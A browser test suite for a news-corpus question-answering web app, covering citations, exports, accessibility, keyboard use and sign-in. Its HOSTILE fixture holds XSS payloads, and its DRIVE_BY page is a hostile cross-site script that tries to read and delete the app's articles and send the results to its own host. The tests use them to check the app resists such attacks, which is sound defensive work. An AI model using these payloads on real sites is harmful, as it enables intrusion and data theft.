"""The page in a real browser, as people use it. Run by `make test-browser`."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from eval.feedback import read_feedback
from eval.reports.kept import keep_report
from rag.answer import Answer
from tests.chromium import ask, chromium, opened, serving
from tests.scripted_server import Script, scripted
from tests.served import keyring
from tests.test_eval_reports import decision
from ui.render.exports import answer_as_markdown
from ui.schemas import from_json

pytestmark = pytest.mark.browser

GATES = "Who ordered the gates of the dam to be opened?"
ARABIC = "كم عدد ضحايا الدلتا؟"
DARK, PHONE = {"color_scheme": "dark"}, {"viewport": {"width": 390, "height": 844}}
BROUGHT = """The Lighthouse of Vannet Has Gone Dark

By Ilse Brandt
Harbour Echo
4 May 2022

The lighthouse of Vannet went dark on Tuesday. Keeper Jonas Wold said that nobody had paid for its oil.
"""
HOSTILE = """The Kiln <img src=x onerror="window.hacked=1">

By Ilse Brandt
Harbour Echo
4 May 2022

The kiln of Astrup <script>window.hacked=1</script> burned **all night** [7](javascript:alert(1)).
![seen](http://tracker.example/seen.png) The kiln of Astrup was <b onmouseover="window.hacked=1">cold</b> by dawn.
The kiln of Astrup is \u202eton efas\u202c, said Jonas Wold.
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as one:
        yield one


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sample")
    keep_report(
        folder / "reports", decision(wrong=True, compared=True), datetime(2026, 1, 2, tzinfo=UTC)
    )
    return folder


@pytest.fixture(scope="module")
def sample(folder: Path) -> Iterator[str]:
    """A server with the sample articles, which no test changes."""
    with serving(folder, "--sample") as url:
        yield url


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server with an empty corpus, which tests fill."""
    with serving(tmp_path_factory.mktemp("empty")) as url:
        yield url


@pytest.fixture
def page(browser: Any, sample: str) -> Iterator[Any]:
    one = opened(
        browser, sample, accept_downloads=True, permissions=["clipboard-read", "clipboard-write"]
    )
    yield one
    one.context.close()


def answer(url: str, question: str, **asked: Any) -> dict[str, Any]:
    told: dict[str, Any] = httpx.post(
        f"{url}/v1/answers", json={"question": question, **asked}, timeout=60
    ).json()
    return told


def opened_words(page: Any) -> str:
    page.locator("#sources mark.opened").first.wait_for()
    return "".join(
        page.locator("#sources mark.opened").evaluate_all(
            "marks => marks.map(mark => mark.textContent)"
        )
    )


def violations(page: Any) -> list[tuple[str, str, str]]:
    """What axe-core holds against the page as it is: rule, impact, and the first element."""
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page).response["violations"]
    return [
        (one["id"], one["impact"], one["nodes"][0]["html"])
        for one in found
        if one["impact"] != "minor"
    ]


def test_a_question_is_answered_within_two_seconds_and_is_the_answer_of_the_api(
    page: Any, sample: str
) -> None:
    began = time.perf_counter()
    ask(page, GATES)
    assert time.perf_counter() - began < 2
    told = answer(sample, GATES)
    markers = page.locator("#chat .message.bot a.marker").all_inner_texts()
    assert markers == re.findall(r"(?<!\\)\[\d+\]", told["text"])
    assert page.locator("#who .voice h3").count() >= len(told["viewpoints"])
    assert page.locator("#who .dispute .figure").all_inner_texts() == ["four", "six"]


def test_every_marker_opens_exactly_its_words_in_their_article(page: Any, sample: str) -> None:
    ask(page, GATES)
    for citation in answer(sample, GATES)["citations"]:
        page.locator(f'#chat a.marker[href="#c-0-{citation["id"]}"]').first.click()
        page.locator(f'#sources mark.opened[data-citation~="{citation["id"]}"]').first.wait_for()
        assert opened_words(page) == citation["quote"]
        mark = page.locator("#sources mark.opened").first
        assert mark.evaluate("mark => mark === document.activeElement")
        box = mark.bounding_box()
        assert box and 0 <= box["y"] <= 900
    assert page.locator("#sources details").count() == len(
        {c["article_id"] for c in answer(sample, GATES)["citations"]}
    )


def test_a_follow_up_keeps_the_topic_and_an_earlier_answer_can_be_looked_at_again(
    page: Any, sample: str
) -> None:
    ask(page, GATES)
    ask(page, "And what does Tamsin Orvo say?")
    history = [
        {"role": "user", "content": GATES},
        {"role": "assistant", "content": answer(sample, GATES)["text"]},
    ]
    told = answer(sample, "And what does Tamsin Orvo say?", history=history)
    assert told["citations"][0]["holder"]["name"] == "Tamsin Orvo"
    page.get_by_text(f"asked as “{told['understood']['question']}”").wait_for()
    assert page.locator("#who .evidence").get_attribute("data-exchange") == "1"
    page.locator('#chat a.marker[href="#c-0-1"]').first.click()
    page.locator('#sources .sources[data-exchange="0"]').wait_for()
    assert opened_words(page) == answer(sample, GATES)["citations"][0]["quote"]


def test_a_filter_narrows_the_search_and_a_chip_takes_back_what_was_understood(page: Any) -> None:
    page.get_by_label("Outlets").click()
    page.get_by_role("option", name=re.compile(r"^Ostrel Standard \(\d+\)$")).click()
    ask(page, GATES)
    assert "only Ostrel Standard" in page.locator("#chat .status").inner_text()
    assert {
        text.split("in ")[-1].split(",")[0]
        for text in page.locator("#who .where").all_inner_texts()
    } == {"Ostrel Standard"}
    page.get_by_role("button", name="Clear filters").click()
    ask(page, "What does Ilka Dzelny say about the gates?")
    chip = page.get_by_role("checkbox", name=re.compile("words of Ilka Dzelny"))
    assert chip.is_checked()
    chip.uncheck()
    page.wait_for_function("document.querySelectorAll('#who .voice h3 .name').length > 3")
    assert not page.get_by_role("checkbox", name=re.compile("words of Ilka Dzelny")).is_checked()


def test_a_date_that_is_none_is_told_where_the_answer_would_stand(page: Any) -> None:
    page.get_by_label("Since").fill("yesterday")
    ask(page, GATES)
    assert (
        page.locator("#chat .note").inner_text()
        == "'yesterday' is no date. Write it as YYYY, YYYY-MM or YYYY-MM-DD."
    )


def test_an_arabic_answer_runs_from_right_to_left_and_each_quote_in_its_own_direction(
    page: Any, sample: str
) -> None:
    ask(page, ARABIC)
    first = page.locator("#chat .message.bot p").first
    assert first.evaluate("p => getComputedStyle(p).direction") == "rtl"
    name = page.locator("#chat .message.bot p > strong").first  # Latin letters, in an Arabic line
    assert name.evaluate("name => getComputedStyle(name.parentElement).unicodeBidi") != "plaintext"
    edges = name.evaluate(
        "n => [n.getBoundingClientRect().right, n.parentElement.getBoundingClientRect().right]"
    )
    assert edges[1] - edges[0] < 2
    told = answer(sample, ARABIC)
    languages = {str(c["id"]): c["language"] for c in told["citations"]}
    assert set(languages.values()) == {"ar", "en"}
    for number, language in languages.items():
        quote = page.locator(f'#who blockquote:has(> a[href="#c-0-{number}"])').first
        assert quote.evaluate("q => getComputedStyle(q).direction") == (
            "rtl" if language == "ar" else "ltr"
        )
        assert quote.get_attribute("lang") == language


def test_an_unanswerable_question_is_told_with_what_is_near(page: Any) -> None:
    ask(page, "What is the recipe for apple cake?")
    assert page.locator("#chat .status.unanswered").inner_text().startswith("Not here")
    assert page.locator("#who .gaps li").first.inner_text() == "The corpus does not answer this."


def test_a_conversation_is_taken_along_with_its_citations(
    page: Any, sample: str, tmp_path: Path
) -> None:
    ask(page, GATES)
    for name, file in (
        ("Export as Markdown", "conversation.md"),
        ("Export as JSON", "conversation.json"),
    ):
        with page.expect_download() as download:
            page.get_by_role("button", name=name).click()
        assert download.value.suggested_filename == file
        download.value.save_as(tmp_path / file)
    citations = answer(sample, GATES)["citations"]
    told = json.loads((tmp_path / "conversation.json").read_text())
    assert told["exchanges"][0]["answer"]["citations"] == citations
    markdown = (tmp_path / "conversation.md").read_text()
    assert all(f"- \\[{one['id']}\\] " in markdown for one in citations) and GATES in markdown


def test_an_answer_is_copied_as_markdown_with_its_sources(page: Any, sample: str) -> None:
    ask(page, GATES)
    page.locator("#chat button[aria-label='Copy message']").last.click()
    page.wait_for_function("document.querySelector('#handed textarea').value")
    page.wait_for_timeout(200)
    assert page.evaluate("navigator.clipboard.readText()") == answer_as_markdown(
        from_json(Answer, json.dumps(answer(sample, GATES)))
    )


def test_a_conversation_outlives_a_reload_and_an_earlier_one_is_opened_again(page: Any) -> None:
    ask(page, GATES)
    page.wait_for_function("(localStorage.getItem('rashomon-current') ?? '').length > 2000")
    page.reload()
    page.locator("#chat .status").wait_for()
    assert page.locator("#who .evidence").get_attribute("data-exchange") == "0"
    page.get_by_role("button", name="New conversation").click()
    page.locator("#hints button").first.wait_for()
    assert page.locator("#chat .message").count() == 0
    page.get_by_label(GATES).click()
    page.locator("#chat .status").wait_for()
    assert page.locator("#chat .message.user").inner_text().strip().startswith(GATES)


def test_an_answer_is_asked_again_edited_and_judged(page: Any, folder: Path) -> None:
    ask(page, GATES)
    page.evaluate("document.querySelector('#chat .status').dataset.old = 'yes'")
    page.locator("#chat button[aria-label='Retry']").last.click()
    page.locator("#chat .status:not([data-old])").wait_for()  # that of the second answer
    page.locator("#chat button[aria-label='Dislike']").last.click()
    page.get_by_label("A side is missing").check()
    page.get_by_label("In your words (optional)").fill("Where is the panel?")
    page.get_by_role("button", name="Send").click()
    page.get_by_text("Thank you. It is kept beside the corpus").wait_for()
    (kept,) = read_feedback(folder / "corpus" / "feedback.jsonl")
    assert (kept.verdict, kept.reason, kept.comment) == (
        "down",
        "A side is missing",
        "Where is the panel?",
    )
    assert kept.answer.question == GATES and kept.answer.citations
    page.locator("#chat button[aria-label='Edit']").first.click()
    page.locator("#chat textarea").first.fill("Who fired *first* at Orle?")
    page.locator("#chat button[aria-label='Submit']").first.click()
    page.locator("#chat .message.user", has_text="Who fired *first* at Orle?").wait_for()
    page.locator("#chat .status").wait_for()
    page.locator("#chat button[aria-label='Edit']").first.click()
    page.locator("#chat button[aria-label='Submit']").first.click()
    page.wait_for_timeout(500)
    assert page.locator("#chat .message.user").inner_text().strip() == "Who fired *first* at Orle?"


def test_what_an_answer_leaves_open_is_asked_by_a_click(page: Any) -> None:
    page.locator("#hints button").first.click()
    page.locator("#chat .status").first.wait_for()
    page.locator("#chat .option").first.click()
    page.locator("#chat .status").nth(1).wait_for()


def test_a_name_opens_all_that_somebody_says_and_a_title_its_article(
    page: Any, sample: str
) -> None:
    ask(page, GATES)
    page.locator("#who a.name", has_text="Ilka Dzelny").click()
    page.locator("#voice h2", has_text="Ilka Dzelny").wait_for()
    theirs = httpx.get(f"{sample}/v1/statements", params={"holder": "Ilka Dzelny"}).json()
    assert (
        page.locator("#voice .said blockquote").count()
        == page.locator("#voice .dot").count()
        == len(theirs)
    )
    words = page.locator("#voice .said blockquote").nth(1).inner_text().partition(" [open]")[0]
    page.locator("#voice .said blockquote a").nth(1).click()
    page.locator("#article .opened").first.wait_for()
    assert words in "".join(page.locator("#article .opened").all_inner_texts())
    page.get_by_role("tab", name="Voices").click()
    page.locator("#voice .said h3 a").first.click()
    page.locator("#article h2").wait_for()
    voices = page.locator("#article .legend").inner_text()
    assert "Ilka Dzelny" in voices and "Tamsin Orvo" in voices


def test_the_timeline_opens_the_words_of_a_dot_and_escape_goes_back_to_it(
    page: Any, sample: str
) -> None:
    ask(page, GATES)
    page.get_by_role("tab", name="Timeline").click()
    dot = page.locator("#timeline .dot").last
    number = int(str(dot.get_attribute("href")).rpartition("-")[2])
    dot.click()
    assert opened_words(page) == answer(sample, GATES)["citations"][number - 1]["quote"]
    page.wait_for_function("document.activeElement.matches('mark.opened')")
    page.keyboard.press("Escape")
    page.wait_for_function("document.activeElement.matches('#timeline .dot')")


def test_articles_are_added_asked_about_sorted_and_removed(
    browser: Any, empty: str, tmp_path: Path
) -> None:
    page = opened(browser, empty)
    assert "The corpus is empty." in page.locator("#chat").inner_text()
    page.get_by_role("tab", name="Articles").click()
    (tmp_path / "light.txt").write_text(BROUGHT)
    (tmp_path / "noise.bin").write_bytes(bytes(range(256)))
    page.locator("#files input[type=file]").set_input_files(
        [tmp_path / "light.txt", tmp_path / "noise.bin"]
    )
    page.locator("#reports li.added").wait_for()
    page.locator("#reports li.failed, #reports li.skipped").wait_for()
    page.get_by_role("tab", name="Ask").click()
    ask(page, "What did Jonas Wold say about the lighthouse of Vannet?")
    page.locator("#chat a.marker").first.click()
    assert opened_words(page) == "Keeper Jonas Wold said that nobody had paid for its oil."
    page.get_by_role("tab", name="Articles").click()
    page.get_by_role("button", name="Or paste a text").click()
    page.get_by_label(re.compile(r"^\s*Text")).fill(
        BROUGHT.replace("Lighthouse", "Almanac").replace("went dark", "shut")
    )
    page.get_by_role("button", name="Add this text").click()
    titles = page.locator("#articles tbody th")
    titles.nth(1).wait_for()
    page.get_by_role("button", name="Title").click()
    assert titles.all_inner_texts() == [
        "The Almanac of Vannet Has Gone Dark",
        "The Lighthouse of Vannet Has Gone Dark",
    ]
    page.get_by_role("button", name="Title").click()
    assert titles.first.inner_text() == "The Lighthouse of Vannet Has Gone Dark"
    titles.last.locator("a").click()
    page.get_by_role("button", name="Remove this article").click()
    page.get_by_text("Remove “The Almanac of Vannet Has Gone Dark”").wait_for()
    page.get_by_role("button", name="Remove it").click()
    page.get_by_text("The article was removed.").wait_for()
    page.wait_for_function("document.querySelectorAll('#articles tbody tr').length === 1")
    page.context.close()


def test_hostile_text_is_shown_as_text(browser: Any, empty: str) -> None:
    page = opened(browser, empty)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    files = {"file": ("kiln.txt", HOSTILE.encode(), "text/plain")}
    httpx.post(f"{empty}/v1/articles", files=files).raise_for_status()
    page.reload()
    ask(page, "Who says what about the kiln of Astrup?")
    ask(page, "<img src=x onerror='window.hacked=1'> **kiln** of Astrup")
    page.locator("#chat a.marker").first.click()
    opened_words(page)
    shown = page.locator("#sources .text").first.inner_text()
    assert (
        "<script>window.hacked=1</script> burned **all night** [7](javascript:alert(1))." in shown
    )
    assert "is ton efas, said" in shown
    page.locator("#sources .text").first.hover()
    page.get_by_role("tab", name="Voices").click()
    page.get_by_role("tab", name="Articles").click()
    page.locator("#articles a", has_text="The Kiln <img").click()
    page.locator("#article h2", has_text="The Kiln <img").wait_for()
    page.get_by_role("button", name="Remove this article").click()
    page.get_by_text("Remove “The Kiln <img src=x onerror=").wait_for()
    page.get_by_role("button", name="Keep it").click()
    assert page.evaluate("window.hacked") is None
    assert page.locator("#sources img, #chat .message img, #article img, #who script").count() == 0
    assert [url for url in asked if "tracker.example" in url] == []
    page.context.close()


def test_what_a_model_writes_is_read_while_it_writes(browser: Any, tmp_path: Path) -> None:
    reply = (
        "The lighthouse of Vannet went dark on Tuesday [1]. Jonas Wold said that nobody had paid"
        " for its oil [2]."
    )
    script = Script(reply, pause=0.15)
    with scripted(script) as model, serving(tmp_path, llm_url=model, llm_model="tiny") as url:
        files = {"file": ("light.txt", BROUGHT.encode(), "text/plain")}
        httpx.post(f"{url}/v1/articles", files=files, timeout=60).raise_for_status()
        page = opened(browser, url)
        page.locator("#question textarea").fill("Who says what about the lighthouse of Vannet?")
        page.keyboard.press("Enter")
        page.locator("#chat .message.bot", has_text="on Tuesday").wait_for()
        assert page.get_by_role("button", name="Stop").is_visible()
        assert "nobody had paid" not in page.locator("#chat .message.bot").inner_text()
        page.locator("#chat .status").wait_for()
        assert "nobody had paid" in page.locator("#chat .message.bot").inner_text()
        page.context.close()


def test_a_model_that_writes_can_be_stopped_and_is_named(browser: Any, tmp_path: Path) -> None:
    with (
        scripted(Script("slow")) as model,
        serving(tmp_path, llm_url=model, llm_model="tiny") as url,
    ):
        files = {"file": ("light.txt", BROUGHT.encode(), "text/plain")}
        httpx.post(f"{url}/v1/articles", files=files, timeout=60).raise_for_status()
        page = opened(browser, url)
        assert f"Writer: tiny at {model}" in page.locator("#models").inner_text()
        page.locator("#question textarea").fill("Who says what about the lighthouse of Vannet?")
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Stop").click()
        page.locator("#chat .note", has_text="Stopped.").wait_for()
        page.get_by_role("button", name="Ask", exact=True).wait_for()
        page.wait_for_function("(localStorage.getItem('rashomon-current') ?? '').length > 300")
        page.reload()
        page.locator("#chat .note", has_text="Stopped.").wait_for()
        page.locator("#question textarea").fill("And who says so?")
        page.keyboard.press("Enter")
        page.locator("#chat .message").nth(3).wait_for()
        page.context.close()


def test_an_answer_stays_away_from_a_conversation_that_was_begun_after_its_question(
    browser: Any, tmp_path: Path
) -> None:
    with (
        scripted(Script("slow")) as model,
        serving(tmp_path, llm_url=model, llm_model="tiny") as url,
    ):
        files = {"file": ("light.txt", BROUGHT.encode(), "text/plain")}
        httpx.post(f"{url}/v1/articles", files=files, timeout=60).raise_for_status()
        page = opened(browser, url)
        for moment in (0, 20, 60, 150, 400, 1000):  # milliseconds after the question
            page.locator("#question textarea").fill("Who says what about the lighthouse of Vannet?")
            page.keyboard.press("Enter")
            page.wait_for_timeout(moment)
            page.get_by_role("button", name="New conversation").click()
            page.locator("#chat", has_text="1 article of 1 outlet").wait_for()
            page.wait_for_timeout(2000)
            assert page.locator("#chat .message").count() == 0, moment
            assert "Error" not in page.locator("#chat").inner_text(), moment
            assert page.get_by_role("button", name="Ask", exact=True).is_visible()
        page.context.close()


def test_everything_can_be_done_with_the_keyboard(page: Any) -> None:
    page.locator("#question textarea").focus()
    page.keyboard.type(GATES)
    page.keyboard.press("Enter")
    page.locator("#chat .status").wait_for()
    _tab_to(page, "#chat a.marker", backwards=True)
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"
    page.keyboard.press("Enter")
    page.locator("#sources mark.opened").first.wait_for()
    page.wait_for_function("document.activeElement.matches('mark.opened')")
    page.keyboard.press("Escape")
    page.wait_for_function("document.activeElement.matches('#chat a.marker')")
    _tab_to(page, "#evidence [role=tab]")
    page.locator("#pages [role=tab]", has_text="Articles").first.focus()
    page.keyboard.press("Enter")
    _tab_to(page, "#articles tbody a")
    page.keyboard.press("Enter")
    page.locator("#article h2").wait_for()


def _tab_to(page: Any, selector: str, backwards: bool = False) -> None:
    """Presses Tab until the focus is on something; fails after as many as a page has."""
    for _ in range(150):
        page.keyboard.press("Shift+Tab" if backwards else "Tab")
        if page.evaluate("selector => document.activeElement.matches(selector)", selector):
            return
    pytest.fail(f"Tab does not reach {selector}")


def test_the_page_fits_a_phone(browser: Any, sample: str) -> None:
    page = opened(browser, sample, **PHONE)
    ask(page, GATES)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.locator("#chat a.marker").first.click()
    mark = page.locator("#sources mark.opened").first
    mark.wait_for()
    page.wait_for_function(
        "document.querySelector('mark.opened').getBoundingClientRect().top < innerHeight"
    )
    page.get_by_role("button", name="Back to where you were").click()
    page.wait_for_function("document.activeElement.matches('#chat a.marker')")
    page.locator("#chat a.marker").first.click()
    mark.wait_for()
    assert violations(page) == []
    page.context.close()


def test_dark_is_dark_and_can_be_read(browser: Any, sample: str) -> None:
    page = opened(browser, sample, **DARK)
    ask(page, GATES)
    page.locator("#chat a.marker").first.click()
    opened_words(page)
    shade = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert max(map(int, re.findall(r"\d+", shade)[:3])) < 60
    assert violations(page) == []
    page.context.close()


def test_no_page_breaks_a_rule_of_axe(page: Any) -> None:
    assert violations(page) == []
    ask(page, GATES)
    assert violations(page) == []
    for tab in ("Sources", "Timeline", "Voices", "Articles", "Evals"):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(500)
        assert (tab, violations(page)) == (tab, [])


def test_the_evals_page_shows_the_last_report(page: Any, sample: str) -> None:
    page.get_by_role("tab", name="Evals").click()
    page.locator("#report h2", has_text="mine: fail").wait_for()
    assert "do not release it" in page.locator("#report").inner_text()
    link = page.locator("#report a").get_attribute("href")
    assert httpx.get(f"{sample}{link}").text.startswith("<!doctype html>")


def test_a_page_behind_keys_is_signed_in_to_and_shows_what_the_key_may(
    browser: Any, tmp_path: Path
) -> None:
    secret = keyring(tmp_path / "corpus").add("reader", ["ask"])
    with serving(tmp_path, "--sample") as url:
        page = browser.new_context(locale="en-GB").new_page()
        page.goto(url)
        assert page.url == f"{url}/sign-in" and violations(page) == []
        page.get_by_label("Your key").fill("rk_wrong")
        page.keyboard.press("Enter")
        page.get_by_role("alert").wait_for()
        assert page.get_by_role("alert").inner_text().startswith("This key is not known.")
        page.get_by_label("Your key").fill(secret)
        page.keyboard.press("Enter")
        page.get_by_text("Signed in as reader").wait_for()
        ask(page, GATES)
        assert page.locator("#chat .message.bot a.marker").count() > 3
        page.get_by_role("tab", name="Articles").click()
        page.get_by_text("Your key may ask, and not change the corpus.").first.wait_for()
        assert page.locator("#files").count() == 0
        page.get_by_role("button", name="Sign out").click()
        page.get_by_label("Your key").wait_for()
        assert page.url == f"{url}/sign-in"
        page.context.close()


def test_nothing_is_asked_of_another_host(browser: Any, sample: str) -> None:
    page = browser.new_context().new_page()
    hosts: set[str | None] = set()
    page.on("request", lambda request: hosts.add(urlsplit(request.url).hostname))
    page.goto(sample)
    page.locator("#hints button").first.wait_for()
    ask(page, GATES)
    for tab in ("Sources", "Timeline", "Voices", "Articles", "Evals"):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(500)
    assert hosts - {None} == {"127.0.0.1"}
    page.context.close()


DRIVE_BY = """<!doctype html><meta charset="utf-8"><title>A page of another site</title><script>
const target = "%(target)s";
const told = [];
const tries = [
  () => fetch(target + "/v1/articles").then((reply) => reply.text()),
  () => fetch(target + "/v1/articles/%(id)s", {method: "DELETE", mode: "no-cors"}),
  () => fetch(target + "/v1/articles", {method: "POST", mode: "no-cors", body: new FormData()}),
  () => fetch(target + "/gradio_api/queue/join", {method: "POST", mode: "no-cors", body: "{}", credentials: "include"}),
  () => new Promise((resolve, reject) => {
    const picture = new Image();
    picture.onload = () => resolve("a picture was read"); picture.onerror = reject;
    picture.src = target + "/favicon.ico";
  }),
  () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch { resolve(""); } };
    frame.src = target + "/docs";
    document.documentElement.append(frame);
  }),
];
(async () => {
  for (const one of tries) {
    try { const found = await one(); if (typeof found === "string" && found) told.push(found); } catch {}
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
  location.href = target + "/gradio_api/file=" + location.origin + "/x.png";
})();
</script>"""


@contextmanager
def another_site(target: str, article: str) -> Iterator[tuple[str, list[str]]]:
    """The address of a site that means ill, and what came to it."""
    came: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            came.append(self.path)
            link = f'<!doctype html><a href="{target}/">Read on</a>'
            self._reply(
                (
                    link if self.path == "/link" else DRIVE_BY % {"target": target, "id": article}
                ).encode()
            )

        def do_POST(self) -> None:
            came.append(
                f"{self.path} {self.rfile.read(int(self.headers['Content-Length'])).decode()}"
            )
            self._reply(b"ok")

        def _reply(self, content: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *args: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}", came
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("with_keys", [False, True], ids=["by default", "with keys"])
def test_a_page_of_another_site_reads_and_changes_nothing(
    browser: Any, tmp_path: Path, with_keys: bool
) -> None:
    secret = keyring(tmp_path / "corpus").add("desk", ["admin"]) if with_keys else ""
    headers = {"Authorization": f"Bearer {secret}"} if with_keys else {}
    with serving(tmp_path, "--sample") as url:
        before = httpx.get(f"{url}/v1/articles", headers=headers).json()
        page = browser.new_context(locale="en-GB").new_page()
        if with_keys:
            page.goto(f"{url}/sign-in")
            page.get_by_label("Your key").fill(secret)
            page.keyboard.press("Enter")
            page.get_by_text("Signed in as desk").wait_for()
        with another_site(url, before[0]["id"]) as (site, came):
            page.goto(site)
            page.wait_for_url(f"{url}/**")
            assert "The page of another site sent this." in page.locator("body").inner_text()
            assert [one for one in came if one != "/favicon.ico"] == ["/", "/told []"]
            page.goto(f"{site}/link")
            page.get_by_text("Read on").click()
            page.wait_for_url(f"{url}/")
            page.get_by_label("Your key" if with_keys else "Question").wait_for()
        assert httpx.get(f"{url}/v1/articles", headers=headers).json() == before
        page.context.close()
